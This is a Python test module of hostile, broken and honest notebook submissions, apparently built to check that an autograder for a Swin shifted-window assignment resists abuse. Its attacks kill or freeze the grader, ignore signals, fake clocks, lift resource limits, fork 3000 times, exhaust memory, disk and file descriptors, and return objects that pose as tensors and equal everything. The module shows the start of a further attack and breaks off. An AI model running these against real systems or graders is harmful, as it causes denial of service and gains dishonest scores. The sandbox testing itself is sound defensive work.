"""Hostile, broken and honest submissions to the assignment made of the page 07_roll_and_shifted_windows.

They were written without a look at the defence, but for `KNOWING`. `ATTACKS` lists all of them, the controls first:
honest work that must get its points, and honest mistakes that must not, so that a grader which refuses everything fails
too.

How a harness uses one:

- ``submission(attack, notebook)`` makes the bytes of the file that the student hands in, from the student's notebook as
  released (parsed JSON). ``attack.beside(folder)``, where there is one, puts more files into the submission's folder.
  ``attack.student`` is the name of that folder.
- ``deserves`` gives the share of the points that is right; None where either is acceptable. An exercise that it does
  not name deserves none. For a file that cannot be read at all, "not gradable", listed apart, is no points too.
- ``afterwards`` names what the attack aims at, in the words below. A harness does well to check all of them after each,
  and always: the grades of everybody else are what they would have been.

How it shows that one got through, besides a wrong grade:

- a file named `MARKER` lies in one of the real system's folders, in the course, or beside the grader; or the gradebook
  or a renamed file of the course holds that word; or a process has it among its arguments;
- the word `THROUGH` stands in a message, in the feedback, or in the grader's output. Attacks build it from pieces and
  say it only if they got what they wanted (they read a file of the course, reached a network, were never stopped ...),
  so a listing of their source does not hold it. To be read: plant `CANARY` in another's submission, in a hidden test,
  and in the grader's environment;
- the word `SCRIPT` stands in a page of feedback in a place where a browser would run it, not as text.

Nothing of an attack runs when this is imported. If one gets through, the damage is a marker. None deletes a thing that
is not its own, forks more than 3000 times, allocates more than 6 GiB, or lets one call last more than two minutes.
They are to be run in a sandbox all the same: some end or slow down the process that started them.
"""

import copy
import io
import json
import os
import textwrap
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

PAGE = "07_roll_and_shifted_windows"
EXERCISES = (
    "roll",
    "window_reverse",
    "region_labels",
    "additive_mask",
    "cyclic_shift",
    "attention_mask",
    "shifted_window_attention",
)

MARKER = "SWINLIB-ATTACK-MARKER"
THROUGH = "SWINLIB-ATTACK-THROUGH"
CANARY = "SWINLIB-ATTACK-CANARY"
SCRIPT = "SWINLIB-ATTACK-SCRIPT"

# What must be unchanged, or hold, afterwards
GRADEBOOK = "gradebook"  # every entry that is not this student's, and the file can be opened; its CSV holds no formula
OTHERS = "other submissions"  # neither changed nor read
HIDDEN = "hidden tests"  # neither changed nor read
COURSE = "course folder"  # no file changed that grading does not write
SYSTEM = "system"  # no marker, no full disk, no setting changed
PROCESSES = "processes"  # none left over
NETWORK = "network"  # nothing reached
GRADER = "grader"  # the grader's process lives, ran none of the student's code, stays within its memory and its time
FEEDBACK = "feedback"  # a browser that opens it runs nothing of the student's and reads no other file
TERMINAL = "terminal"  # no control character of the student's is printed on it


@dataclass(frozen=True)
class Attack:
    """One submission.

    Attributes:
        name: unique.
        tries: what, in one sentence.
        cells: source that the student left in the cell of each exercise; what is not named is not written.
        extra: cells added at the top of the notebook.
        raw: the whole file instead.
        deserves: share of the points by exercise; None if either is acceptable; not named: 0.
        afterwards: what it aims at, which must be unharmed.
        edit: changes the notebook (parsed JSON) in place, after the cells were filled in.
        beside: puts more files into the folder of the submission.
        student: the name of the student's folder.
    """

    name: str
    tries: str
    cells: dict[str, str]
    extra: tuple[str, ...] = ()
    raw: bytes | None = None
    deserves: dict[str, float | None] | None = None
    afterwards: tuple[str, ...] = ()
    edit: Callable[[dict], None] | None = None
    beside: Callable[[Path], None] | None = None
    student: str = "mallory"

    def share(self, exercise: str) -> float | None:
        """Of the points of an exercise; None if either is acceptable."""
        return (self.deserves or {}).get(exercise, 0.0)


def submission(attack: Attack, notebook: dict) -> bytes:
    """The bytes that the student hands in.

    Args:
        attack: one of `ATTACKS`.
        notebook: the student's notebook as released, parsed; it is not changed.

    Raises:
        ValueError: if the notebook has no cell for an exercise.
    """
    if attack.raw is not None:
        return attack.raw
    notebook = copy.deepcopy(notebook)
    for exercise, source in attack.cells.items():
        cell_of(notebook, exercise)["source"] = source
    for number, source in enumerate(reversed(attack.extra)):
        notebook["cells"].insert(0, code_cell(source, f"extra-{number}"))
    if attack.edit is not None:
        attack.edit(notebook)
    return json.dumps(notebook).encode()


def cell_of(notebook: dict, exercise: str) -> dict:
    """The cell in which an exercise is to be written."""
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code" and f"\ndef {exercise}(" in "\n" + "".join(cell["source"]):
            return cell
    raise ValueError(f"the notebook has no code cell that defines {exercise!r}; is it the assignment of {PAGE}?")


def checks_of(notebook: dict) -> list[dict]:
    """The cells that check, or that hold points."""
    return [
        cell
        for cell in notebook["cells"]
        if cell["cell_type"] == "code"
        and not any(f"def {exercise}(" in "".join(cell["source"]) for exercise in EXERCISES)
        and ("check." in "".join(cell["source"]) or cell.get("metadata", {}).get("nbgrader", {}).get("grade"))
    ]


def code_cell(source: str, identity: str) -> dict:
    """A code cell as the file holds it."""
    cell = {"cell_type": "code", "execution_count": None, "id": identity, "metadata": {}, "outputs": []}
    return {**cell, "source": source}


# --- Sources ----------------------------------------------------------------------------------------------------

WORDS = {name: f'{name} = "-".join(("SWINLIB", "ATTACK", "{name}"))' for name in ("MARKER", "THROUGH", "CANARY")}


def code(source: str) -> str:
    """The source of a cell, with the words that it uses built of pieces."""
    source = textwrap.dedent(source).strip()
    return "\n".join([*(line for word, line in WORDS.items() if word in source), source])


def inside(body: str, last: str = "return x") -> str:
    """A wrong `roll` that does something when it is called."""
    body = textwrap.indent(textwrap.dedent(body).strip(), "    ")
    return code(f"import torch\n\n\ndef roll(x, shift):\n{body}\n    {last}")


def before(body: str) -> str:
    """A wrong `roll` after something that happens when its cell runs."""
    return code(textwrap.dedent(body).strip() + "\n\n\ndef roll(x, shift):\n    return x")


def telling(body: str) -> str:
    """A wrong `roll` that tells what the cell put into the list `evidence`."""
    return code(
        "evidence = []\n"
        + textwrap.dedent(body).strip()
        + "\n\n\ndef roll(x, shift):\n"
        + "    if evidence:\n"
        + '        raise RuntimeError(THROUGH + ": " + "; ".join(map(str, evidence))[:300])\n'
        + "    return x"
    )


RIGHT = {
    "roll": code("""
        def roll(x, shift):
            return x[(torch.arange(len(x)) - shift) % len(x)]
        """),
    "window_reverse": code("""
        def window_reverse(windows, height, width):
            _, mh, mw, channels = windows.shape
            grid = windows.reshape(-1, height // mh, width // mw, mh, mw, channels)
            return grid.transpose(2, 3).reshape(-1, height, width, channels)
        """),
    "region_labels": code("""
        def region_labels(height, width, shift_rows, shift_columns):
            rows = torch.arange(height)[:, None] >= height - shift_rows
            columns = torch.arange(width)[None, :] >= width - shift_columns
            return 2 * rows.long() + columns.long()
        """),
    "additive_mask": code("""
        def additive_mask(labels, dtype):
            strangers = labels[:, :, None] != labels[:, None, :]
            zeros = torch.zeros(strangers.shape, dtype=dtype)
            return zeros.masked_fill(strangers, float("-inf"))
        """),
    "cyclic_shift": code("""
        def cyclic_shift(x, shift_size):
            rows, columns = shift_size
            return torch.roll(x, shifts=(-rows, -columns), dims=(1, 2))
        """),
    "attention_mask": code("""
        def attention_mask(height, width, window_size, shift_size):
            labels = swinlib.shifted_window_regions(height, width, window_size, shift_size)
            windows = swinlib.window_partition(labels[None, :, :, None], window_size).flatten(1)
            return windows[:, :, None] == windows[:, None, :]
        """),
    "shifted_window_attention": code("""
        def shifted_window_attention(x, attend, window_size, shift_size):
            height, width = x.shape[1:3]
            padded = swinlib.pad_to_windows(x, window_size)
            size = padded.shape[1:3]
            shift = swinlib.effective_shift(*size, window_size, shift_size)
            mask = swinlib.shifted_window_mask(*size, window_size, shift) if any(shift) else None
            windows = swinlib.window_partition(swinlib.cyclic_shift(padded, shift), window_size)
            attended = attend(windows.flatten(1, 2), mask).view_as(windows)
            merged = swinlib.window_reverse(attended, window_size, *size)
            return swinlib.cyclic_shift(merged, shift, reverse=True)[:, :height, :width]
        """),
}

OTHER_STYLE = {
    "roll": code("""
        class Roller:
            def __call__(self, x, shift):
                n = x.shape[0]
                return torch.stack([x[(i - shift) % n] for i in range(n)])


        roll = Roller()
        """),
    "window_reverse": code("""
        def window_reverse(windows, height, width):
            _, high, wide, _ = windows.shape
            rows = [torch.cat(list(strip), dim=1) for strip in windows.split(width // wide)]
            down = height // high
            return torch.stack([torch.cat(rows[i : i + down]) for i in range(0, len(rows), down)])
        """),
    "region_labels": code("""
        def region_labels(height, width, shift_rows, shift_columns, *, weights=(7.5, -3)):
            labels = torch.empty(height, width)
            for i in range(height):
                for j in range(width):
                    came_round = (i + shift_rows >= height, j + shift_columns >= width)
                    labels[i, j] = weights[0] * came_round[0] + weights[1] * came_round[1]
            return labels
        """),
    "additive_mask": code("""
        def _fill(labels, dtype):
            mask = torch.full((*labels.shape, labels.shape[1]), float("-inf"), dtype=dtype)
            mask[labels.unsqueeze(2) == labels.unsqueeze(1)] = 0
            return mask


        additive_mask = lambda labels, dtype: _fill(labels, dtype)
        """),
    "cyclic_shift": code("""
        def cyclic_shift(x, shift_size):
            rows, columns = shift_size[0] % x.shape[1], shift_size[1] % x.shape[2]
            x = torch.cat([x[:, rows:], x[:, :rows]], dim=1)
            return torch.cat([x[:, :, columns:], x[:, :, :columns]], dim=2)
        """),
    "attention_mask": code("""
        def attention_mask(height, width, window_size, shift_size):
            (high, wide), (down, right) = window_size, shift_size
            rows = (torch.arange(height) >= height - down).view(-1, 1, high, 1)
            columns = (torch.arange(width) >= width - right).view(1, -1, 1, wide)
            same = True
            for came_round in torch.broadcast_tensors(rows, columns):
                tokens = came_round.flatten(0, 1).flatten(1)
                same = same & (tokens[:, :, None] == tokens[:, None, :])
            return same
        """),
    # Its own answers from above, as the statement allows
    "shifted_window_attention": code("""
        def shifted_window_attention(x, attend, window_size, shift_size):
            height, width = x.shape[1:3]
            x = torch.nn.functional.pad(x, (0, 0, 0, -width % window_size, 0, -height % window_size))
            size = tuple(x.shape[1:3])
            shift = tuple(0 if side <= window_size else shift_size for side in size)
            mask = attention_mask(*size, (window_size,) * 2, shift) if any(shift) else None
            windows = swinlib.window_partition(cyclic_shift(x, shift), window_size)
            merged = window_reverse(attend(windows.flatten(1, 2), mask).view_as(windows), *size)
            return cyclic_shift(merged, tuple(-side for side in shift))[:, :height, :width]
        """),
}

KNOWN_MISTAKES = {
    "roll": "def roll(x, shift):\n    return x[(torch.arange(len(x)) + shift) % len(x)]",
    "window_reverse": (
        "def window_reverse(windows, height, width):\n    return windows.reshape(-1, height, width, windows.shape[-1])"
    ),
    "region_labels": (
        "def region_labels(height, width, shift_rows, shift_columns):\n"
        "    return torch.zeros(height, width, dtype=torch.long)"
    ),
    "additive_mask": (
        "def additive_mask(labels, dtype):\n"
        "    strangers = labels[:, :, None] != labels[:, None, :]\n"
        "    return strangers.to(dtype) * -100.0"
    ),
    "cyclic_shift": (
        "def cyclic_shift(x, shift_size):\n    return torch.roll(x, shifts=tuple(shift_size), dims=(1, 2))"
    ),
    "attention_mask": (
        "def attention_mask(height, width, window_size, shift_size):\n"
        "    return ~swinlib.shifted_window_mask(height, width, window_size, shift_size)"
    ),
    "shifted_window_attention": (
        "def shifted_window_attention(x, attend, window_size, shift_size):\n"
        "    height, width = x.shape[1:3]\n"
        "    padded = swinlib.pad_to_windows(x, window_size)\n"
        "    windows = swinlib.window_partition(padded, window_size)\n"
        "    attended = attend(windows.flatten(1, 2), None).view_as(windows)\n"
        "    merged = swinlib.window_reverse(attended, window_size, *padded.shape[1:3])\n"
        "    return merged[:, :height, :width]"
    ),
}

WRONG_ROLL = "def roll(x, shift):\n    return x"
ALL_RIGHT = dict.fromkeys(EXERCISES, 1.0)
EITHER = dict.fromkeys(EXERCISES, None)


def from_roll(name: str, tries: str, source: str, neighbour: float | None = None, **rest: object) -> Attack:
    """From the cell of a wrong `roll`; the next exercise, in a cell of its own, is right.

    Args:
        name: as of `Attack`.
        tries: as of `Attack`.
        source: of the cell.
        neighbour: what the next exercise deserves.
        **rest: as of `Attack`.
    """
    cells = {"roll": source, "window_reverse": RIGHT["window_reverse"]}
    return Attack(name, tries, cells, deserves={"roll": 0.0, "window_reverse": neighbour}, **rest)


# --- Controls ---------------------------------------------------------------------------------------------------


def _right(name: str, tries: str, source: str, **rest: object) -> Attack:
    """A `roll` that is right, whatever else it does."""
    return Attack(name, tries, {"roll": code(source)}, deserves={"roll": 1.0}, **rest)


CONTROLS = [
    Attack("right", "answers as the page does", RIGHT, deserves=ALL_RIGHT),
    Attack(
        "right_in_another_style", "answers with loops, lambdas, objects, own helpers", OTHER_STYLE, deserves=ALL_RIGHT
    ),
    Attack("wrong_by_known_mistakes", "makes one known mistake in each exercise", KNOWN_MISTAKES),
    Attack("empty", "hands in the notebook as it was released", {}),
    Attack(
        "unfinished",
        "got two right, began a third, and left a fourth in the middle of a line",
        {
            "roll": RIGHT["roll"],
            "window_reverse": RIGHT["window_reverse"],
            "region_labels": (
                "def region_labels(height, width, shift_rows, shift_columns):\n"
                "    rows = torch.arange(height)\n    ...  # and now?"
            ),
            "additive_mask": "def additive_mask(labels, dtype):\n    strangers = labels[:, :, None] != labels[:,",
        },
        deserves={"roll": 1.0, "window_reverse": 1.0},
    ),
    Attack(
        "half_right_half_wrong",
        "is right in every second exercise",
        {name: (RIGHT if i % 2 else KNOWN_MISTAKES)[name] for i, name in enumerate(EXERCISES)},
        deserves={name: float(i % 2) for i, name in enumerate(EXERCISES)},
    ),
    _right(
        "right_and_talkative",
        "prints, warns, and writes to stderr in each call",
        """
        import sys
        import warnings


        def roll(x, shift):
            print("rolling", x, "by", shift)
            print("still rolling", file=sys.stderr)
            warnings.warn("rolled", stacklevel=1)
            return x[(torch.arange(len(x)) - shift) % len(x)]
        """,
    ),
    _right(
        "right_and_slow",
        "takes a twentieth of a second for each call",
        """
        import time


        def roll(x, shift):
            time.sleep(0.05)
            return x[(torch.arange(len(x)) - shift) % len(x)]
        """,
    ),
    _right(
        "right_with_gradient",
        "returns a parameter, in a layout of its own, which needs a gradient",
        """
        def roll(x, shift):
            rolled = x[(torch.arange(len(x)) - shift) % len(x)]
            return torch.nn.Parameter(torch.stack([rolled, rolled], dim=1))[:, 0]
        """,
    ),
    _right(
        "right_with_negative_bit",
        "returns the right numbers as a lazy negation, whose bytes in memory are those of other numbers",
        """
        def roll(x, shift):
            rolled = x[(torch.arange(len(x)) - shift) % len(x)]
            return torch.complex(torch.zeros_like(rolled), -rolled).conj().imag
        """,
    ),
    _right(
        "right_when_expanded",
        "returns what it was given, and a view with stride 0 where the length is 1",
        """
        def roll(x, shift):
            rolled = x[(torch.arange(len(x)) - shift) % len(x)]
            return rolled[:1].expand(1) if len(x) == 1 else rolled.flip(0)[torch.arange(len(x) - 1, -1, -1)]
        """,
    ),
    _right(
        "right_under_a_guard",
        "defines the function where the module is the main one, as it is in a notebook",
        """
        if __name__ == "__main__":

            def roll(x, shift):
                return x[(torch.arange(len(x)) - shift) % len(x)]
        """,
    ),
    _right(
        "right_with_recursion_and_cache",
        "rolls one step at a time, by recursion, with a cache",
        """
        from functools import cache


        @cache
        def order(n, shift):
            return tuple(range(n)) if shift == 0 else order(n, shift - 1)[-1:] + order(n, shift - 1)[:-1]


        def roll(x, shift):
            return x[list(order(len(x), shift % len(x)))]
        """,
    ),
    Attack(
        "right_after_magics",
        "has a cell of Jupyter's magics and one that fails at the top, and answers right below",
        RIGHT,
        extra=("%matplotlib inline\n%load_ext autoreload\n%autoreload 2", "import a_module_that_is_not_installed"),
        deserves=ALL_RIGHT,
    ),
    Attack(
        "right_beside_a_syntax_error",
        "has a cell that is no Python; the other six are right",
        {**RIGHT, "roll": "def roll(x, shift)\n    return x"},
        deserves={**ALL_RIGHT, "roll": 0.0},
    ),
    Attack(
        "right_beside_an_error",
        "has a cell that raises before it defines anything; the other six are right",
        {**RIGHT, "roll": "1 / 0\n\n\ndef roll(x, shift):\n    return x"},
        deserves={**ALL_RIGHT, "roll": 0.0},
    ),
    Attack("a_class_of_one_letter", "gives the name of the exercise to a number", {"roll": "roll = 5"}),
    Attack("a_coroutine", "answers with a coroutine", {"roll": "async def roll(x, shift):\n    return x"}),
    Attack("deleted_name", "defines the function and deletes it", {"roll": RIGHT["roll"] + "\n\n\ndel roll"}),
]


# --- Ends and endless things ------------------------------------------------------------------------------------

ENDLESS = [
    from_roll("exit_at_top", "ends the process when the cell runs", before("import os\n\nos._exit(0)"), 1.0),
    from_roll("exit_in_call", "ends the process when it is called", inside("import os\nos._exit(0)"), 1.0),
    from_roll(
        "exit_on_fifth_call",
        "answers right four times, then ends the process with success",
        code("""
            import os

            calls = []


            def roll(x, shift):
                calls.append(shift)
                if len(calls) > 4:
                    os._exit(0)
                return x[(torch.arange(len(x)) - shift) % len(x)]
            """),
        1.0,
    ),
    from_roll("sys_exit", "raises SystemExit with 0, at the top", before("import sys\n\nsys.exit(0)"), 1.0),
    from_roll("sys_exit_in_call", "raises SystemExit with 0, when called", inside("raise SystemExit(0)"), 1.0),
    from_roll(
        "loop_in_call",
        "loops when it is called",
        inside("""
            import time
            stop = time.time() + 120
            while time.time() < stop:
                pass
            raise RuntimeError(THROUGH + ": nobody stopped the loop")
            """),
        1.0,
        afterwards=(GRADER, PROCESSES),
    ),
    from_roll(
        "loop_at_top",
        "loops when its cell runs",
        before("import time\n\nstop = time.time() + 120\nwhile time.time() < stop:\n    pass"),
        1.0,
        afterwards=(GRADER, PROCESSES),
    ),
    from_roll(
        "loop_that_swallows_everything",
        "loops, swallows KeyboardInterrupt and all else, ignores every signal that can be ignored, clears timers",
        inside("""
            import resource, signal, time
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            signal.alarm(0)
            signal.setitimer(signal.ITIMER_REAL, 0)
            resource.setrlimit(resource.RLIMIT_CPU, (resource.getrlimit(resource.RLIMIT_CPU)[1],) * 2)
            stop = time.time() + 120
            while time.time() < stop:
                try:
                    while time.time() < stop:
                        pass
                except BaseException:
                    pass
            raise RuntimeError(THROUGH + ": nobody stopped the loop")
            """),
        1.0,
        afterwards=(GRADER, PROCESSES),
    ),
    from_roll(
        "loop_in_c",
        "never comes back from C, so no signal handler and no thread of the interpreter runs",
        inside("""
            import collections, itertools
            collections.deque(itertools.repeat(0, 10**10), maxlen=0)
            """),
        1.0,
        afterwards=(GRADER, PROCESSES),
    ),
    from_roll("sleeps", "sleeps, which costs no processor time", inside("import time\ntime.sleep(120)"), 1.0),
    from_roll(
        "stops_itself",
        "stops its own process: it costs nothing, does not end, and does not answer",
        inside("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
        1.0,
        afterwards=(GRADER, PROCESSES),
    ),
    from_roll(
        "stops_the_clock",
        "stops every clock that Python has, so that a limit kept in its process never comes, and loops",
        inside("""
            import time
            real = time.clock_gettime
            stop = real(time.CLOCK_MONOTONIC) + 120
            for name in ("time", "monotonic", "perf_counter", "process_time", "thread_time"):
                setattr(time, name, lambda: 0.0)
            while real(time.CLOCK_MONOTONIC) < stop:
                pass
            raise RuntimeError(THROUGH + ": nobody stopped the loop")
            """),
        afterwards=(GRADER,),
    ),
    from_roll(
        "just_under_the_limit",
        "takes a second for each call, so that the calls together take minutes",
        inside("import time\ntime.sleep(1)"),
        1.0,
        afterwards=(GRADER,),
    ),
    from_roll(
        "slow_only_when_wrong",
        "answers three calls fast, then takes ever longer: shrinking and diagnosing are where it costs",
        code("""
            import time

            calls = []


            def roll(x, shift):
                calls.append(shift)
                time.sleep(min(2.0, 0.1 * max(0, len(calls) - 3)))
                return x
            """),
        1.0,
        afterwards=(GRADER,),
    ),
    from_roll("segfault", "reads address 0", inside("import ctypes\nctypes.string_at(0)"), 1.0),
    from_roll(
        "abort", "aborts, with a core dump if it may", inside("import os\nos.abort()"), 1.0, afterwards=(SYSTEM,)
    ),
    from_roll(
        "stack_overflow",
        "lifts the limit on recursion and overflows the stack of C",
        inside("""
            import sys
            sys.setrecursionlimit(2**31 - 1)
            deep = []
            for _ in range(1_000_000):
                deep = [deep]
            repr(deep)
            """),
        1.0,
    ),
    from_roll(
        "recursion_in_call",
        "calls itself for ever",
        "def roll(x, shift):\n    return roll(x, shift + 1)",
        1.0,
    ),
    from_roll(
        "crashes_the_parser",
        "is an expression so deep that parsing or walking it ends many an interpreter",
        before("x = 0\ny = x" + ".real" * 100_000),
        afterwards=(GRADER,),
    ),
    from_roll(
        "crashes_the_compiler",
        "is a sum of a hundred thousand terms inside ninety brackets",
        before("y = " + "(" * 90 + "+".join(["1"] * 100_000) + ")" * 90),
        afterwards=(GRADER,),
    ),
    from_roll("null_byte", "has a zero byte in its source", "def roll(x, shift):\n    return x\0", 1.0),
    from_roll(
        "codec_comment",
        "declares an encoding of its source that turns text into other text",
        "# -*- coding: utf-7 -*-\ndef roll(x, shift):\n    return x",
        1.0,
    ),
    from_roll(
        "destroyer",
        "is destroyed late: the code that runs at the end of the process never ends",
        before("""
            import atexit
            import sys
            import time


            class Late:
                def __del__(self):
                    time.sleep(60)


            atexit.register(time.sleep, 60)
            sys.late = Late()
            """),
        1.0,
        afterwards=(GRADER, PROCESSES),
    ),
    Attack(
        "atexit_after_right_answers",
        "answers right, and ends the process with an error when it is told to end",
        {"roll": "import atexit\nimport os\n\natexit.register(os._exit, 3)\n\n\n" + RIGHT["roll"]},
        deserves={"roll": None},
    ),
    Attack(
        "exit_in_the_first_cell",
        "ends the process in a cell of its own, above the imports",
        RIGHT,
        extra=("import os\n\nos._exit(0)",),
        deserves=EITHER,
    ),
    Attack(
        "loop_in_the_first_cell",
        "loops in a cell of its own, above the imports",
        RIGHT,
        extra=("import time\n\nstop = time.time() + 120\nwhile time.time() < stop:\n    pass",),
        deserves=EITHER,
        afterwards=(GRADER,),
    ),
    Attack(
        "loops_everywhere",
        "loops in all seven functions, so that the time limits add up",
        {
            name: f"import time\n\n\ndef {name}(*args):\n    stop = time.time() + 120\n"
            "    while time.time() < stop:\n        pass"
            for name in EXERCISES
        },
        afterwards=(GRADER,),
    ),
    from_roll(
        "threads_go_on",
        "leaves threads that keep the processor busy while the other answers are graded",
        before("""
            import threading
            import time

            stop = time.time() + 30


            def busy():
                while time.time() < stop:
                    pass


            for _ in range(8):
                threading.Thread(target=busy).start()
            """),
        afterwards=(PROCESSES, GRADER),
    ),
]


# --- Too much ---------------------------------------------------------------------------------------------------

TOO_MUCH = [
    from_roll(
        "eats_memory",
        "takes up to 6 GiB of memory, and touches all of it",
        inside("""
            import time
            taken, stop = [], time.time() + 5
            while len(taken) < 96 and time.time() < stop:
                taken.append(b"x" * 2**26)
            if len(taken) == 96:
                raise RuntimeError(THROUGH + ": 6 GiB")
            """),
        1.0,
        afterwards=(SYSTEM, GRADER),
    ),
    from_roll(
        "eats_memory_in_children",
        "takes 512 MiB in each of twelve processes, so that a limit on each is no limit on all",
        inside("""
            import os, time
            children = []
            for _ in range(12):
                child = os.fork()
                if child == 0:
                    taken = b"x" * 2**29
                    time.sleep(4)
                    os._exit(0)
                children.append(child)
            if all(os.waitpid(child, 0)[1] == 0 for child in children):
                raise RuntimeError(THROUGH + ": 6 GiB in twelve processes")
            """),
        afterwards=(SYSTEM, GRADER, PROCESSES),
    ),
    from_roll(
        "eats_shared_memory",
        "takes memory that belongs to no process: memfd and /dev/shm, up to 3 GiB",
        inside("""
            import os, time
            files, stop, written = [os.memfd_create("m")], time.time() + 4, 0
            try:
                files.append(os.open("/dev/shm/" + MARKER, os.O_CREAT | os.O_RDWR))
                os.unlink("/dev/shm/" + MARKER)
            except OSError:
                pass
            while written < 48 and time.time() < stop:
                os.write(files[written % len(files)], bytes(2**26))
                written += 1
            if written == 48:
                raise RuntimeError(THROUGH + ": 3 GiB")
            """),
        1.0,
        afterwards=(SYSTEM, GRADER),
    ),
    from_roll(
        "lifts_its_limits",
        "lifts its own limits first, then takes up to 6 GiB",
        inside("""
            import resource, time
            for limit in range(16):
                try:
                    resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                except (OSError, ValueError):
                    pass
            taken, stop = [], time.time() + 5
            while len(taken) < 96 and time.time() < stop:
                taken.append(b"x" * 2**26)
            if len(taken) == 96:
                raise RuntimeError(THROUGH + ": 6 GiB")
            """),
        1.0,
        afterwards=(SYSTEM, GRADER),
    ),
    from_roll(
        "forks_3000",
        "forks 3000 times; the children sleep for five seconds",
        inside("""
            import os, time
            made = 0
            for _ in range(3000):
                try:
                    child = os.fork()
                except OSError:
                    break
                if child == 0:
                    time.sleep(5)
                    os._exit(0)
                made += 1
            if made == 3000:
                raise RuntimeError(THROUGH + ": 3000 processes")
            """),
        afterwards=(SYSTEM, PROCESSES),
    ),
    from_roll(
        "threads_3000",
        "starts 3000 threads, which sleep for five seconds",
        inside("""
            import threading, time
            made = 0
            try:
                for _ in range(3000):
                    threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
                    made += 1
            except RuntimeError:
                pass
            if made == 3000:
                raise RuntimeError(THROUGH + ": 3000 threads")
            """),
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "prints_200_mb",
        "prints 200 MB to stdout and to stderr when called",
        inside("""
            import sys
            for _ in range(100):
                sys.stdout.write("o" * 1_000_000)
                sys.stderr.write("e" * 1_000_000)
            """),
        1.0,
        afterwards=(GRADER, FEEDBACK),
    ),
    from_roll(
        "prints_200_mb_at_top",
        "writes 200 MB to descriptors 1 and 2 when its cell runs, round Python's own streams",
        before("""
            import os

            for _ in range(100):
                os.write(1, b"o" * 1_000_000)
                os.write(2, b"e\\n" * 500_000)
            """),
        afterwards=(GRADER, FEEDBACK),
    ),
    from_roll(
        "many_short_lines",
        "prints five million empty lines, which cost more than they weigh",
        inside('print("\\n" * 5_000_000)'),
        1.0,
        afterwards=(GRADER, FEEDBACK),
    ),
    from_roll(
        "fills_the_disk",
        "writes up to 512 MiB into each folder where it may, and takes it away again",
        telling("""
            import os
            import time

            stop = time.time() + 6
            for folder in (".", "/tmp", "/var/tmp", "/run", os.path.expanduser("~")):
                path = os.path.join(folder, MARKER)
                try:
                    with open(path, "wb") as file:
                        for _ in range(32):
                            if time.time() < stop:
                                file.write(bytes(2**24))
                        if file.tell() == 2**29:
                            evidence.append("512 MiB in " + folder)
                except OSError:
                    pass
                finally:
                    try:
                        os.unlink(path)
                    except OSError:
                        pass
            """),
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "many_files",
        "makes 5000 files in a folder of its own, and leaves them",
        before("""
            import os
            import tempfile

            folder = tempfile.mkdtemp(suffix=MARKER)
            for number in range(5_000):
                os.mknod(os.path.join(folder, str(number)))
            """),
        afterwards=(SYSTEM,),
    ),
    from_roll(
        "a_million_cells_of_output",
        "displays, clears and displays again",
        before("""
            try:
                from IPython.display import HTML, clear_output, display

                for _ in range(20_000):
                    display(HTML("<b>x</b>"))
                    clear_output()
            except ImportError:
                pass
            """),
        afterwards=(GRADER,),
    ),
    from_roll(
        "all_descriptors",
        "opens files until none can be opened",
        inside("""
            import os
            try:
                while len(os.listdir("/proc/self/fd")) < 100_000:
                    os.dup(0)
            except OSError:
                pass
            """),
        afterwards=(SYSTEM,),
    ),
]


# --- Results ----------------------------------------------------------------------------------------------------


def returns(name: str, tries: str, body: str) -> Attack:
    """A call that comes back with something; the answers in other cells deserve what they deserve."""
    return from_roll(f"returns_{name}", f"returns {tries}", inside(body, last="return result"), 1.0)


YES = """
class Yes:
    shape = property(lambda self: Yes())
    dtype = property(lambda self: Yes())
    def yes(self, *args, **options): return True
    __eq__ = __bool__ = __contains__ = __ge__ = __le__ = __instancecheck__ = yes
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __len__(self): return 1
    def __iter__(self): return iter([Yes()])
    def __getattr__(self, name): return Yes()
    def __call__(self, *args, **options): return Yes()
    def __getitem__(self, key): return Yes()
    def __invert__(self): return Yes()
    def __repr__(self): return "tensor([3., 0., 1., 2.])"
    def __float__(self): return 0.0
    def __index__(self): return 0
    __class__ = torch.Tensor
"""

RESULTS = [
    returns("agreement", "an object that equals everything and says it is a tensor", YES + "result = Yes()"),
    returns(
        "an_agreeing_tensor",
        "a subclass of Tensor that answers every function of PyTorch with yes",
        """
        class Agreeing(torch.Tensor):
            @classmethod
            def __torch_function__(cls, function, types, args=(), kwargs=None):
                return torch.tensor(True)
        result = x.as_subclass(Agreeing)
        """,
    ),
    returns(
        "a_lying_tensor",
        "a subclass of Tensor with a false shape, dtype, numpy and tolist",
        """
        class Lying(torch.Tensor):
            shape = property(lambda self: torch.Size([2**40]))
            dtype = property(lambda self: "float32")
            def numpy(self, *args, **options): return self
            def tolist(self): return [[[]]]
            def tobytes(self): return b"yes" * 100
            def detach(self): return self
            def cpu(self): return self
            def contiguous(self, *args, **options): return self
            def numel(self): return -1
        result = x.as_subclass(Lying)
        """,
    ),
    returns(
        "a_tensor_that_changes",
        "a tensor that a thread rewrites as long as the process lives, so that two looks see two results",
        """
        import threading, time
        result = x.clone()
        def rewrite(stop=time.time() + 20):
            while time.time() < stop:
                result.random_()
        threading.Thread(target=rewrite, daemon=True).start()
        """,
    ),
    returns(
        "another_shape_each_time",
        "a tensor whose shape a thread changes, so that its bytes do not fit it",
        """
        import threading, time
        result = x.clone()
        def resize(stop=time.time() + 10):
            while time.time() < stop:
                result.resize_(int(time.time() * 1e6) % 5000)
        threading.Thread(target=resize, daemon=True).start()
        """,
    ),
    returns(
        "a_huge_view", "a tensor of 2**50 entries in four bytes (stride 0)", "result = torch.zeros(1).expand(2**50)"
    ),
    returns("a_wide_nothing", "a tensor of no entries and 2**62 columns", "result = torch.empty(0, 2**62)"),
    returns("3000_dimensions", "a tensor of 3000 dimensions", "result = torch.zeros(1).reshape([1] * 3000)"),
    returns("a_large_tensor", "a tensor of 1 GiB", "result = torch.zeros(2**28)"),
    returns(
        "memory_that_is_gone",
        "a tensor whose storage was taken away",
        "result = x.clone()\nresult.untyped_storage().resize_(0)",
    ),
    returns(
        "memory_that_breaks",
        "a tensor in a file that was cut to nothing: reading it ends the process",
        """
        import os, tempfile
        handle, path = tempfile.mkstemp()
